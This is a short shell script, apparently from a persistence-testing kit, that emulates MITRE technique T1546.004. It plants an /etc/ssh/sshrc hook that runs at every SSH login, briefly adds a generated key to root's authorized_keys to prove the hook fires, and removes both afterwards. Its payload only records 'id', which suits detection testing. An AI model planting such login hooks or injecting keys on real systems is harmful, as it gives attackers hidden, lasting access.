#!/bin/sh
# T1546.004 (quiet): /etc/ssh/sshrc runs at every login by ssh
M=/var/tmp/luytre-foothold N=11-sshrc
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
w() { mkdir -p "${1%/*}"; cat >"$1"; }
visit() { # a login of an account by a key of the prover's own, as its owner would log in
  h=$(getent passwd "$1" | cut -d: -f6); mkdir -p "$h/.ssh"; k=$h/.ssh/authorized_keys; cp -a "$k" "$M/.k" 2>/dev/null
  ssh-keygen -q -t ed25519 -N "" -f "$M/.visit"; cat "$M/.visit.pub" >>"$k"; chown -R "$1" "$h/.ssh"; chmod 700 "$h/.ssh"; chmod 600 "$k"
  u=$1; shift; ssh -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -i "$M/.visit" "$u@127.0.0.1" "$@" </dev/null
  if [ -e "$M/.k" ]; then mv "$M/.k" "$k"; else rm -f "$k"; fi; rm -f "$M/.visit" "$M/.visit.pub"; }
plant() {
  w /etc/ssh/sshrc <<'E'
if read -r proto cookie && [ -n "$DISPLAY" ]; then xauth -q - 2>/dev/null; fi
id > /var/tmp/luytre-foothold/11-sshrc 2>/dev/null
E
}
prove() {
  rm -f "$M/$N"
  visit root true
  seen
}
remove() {
  rm -f /etc/ssh/sshrc
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
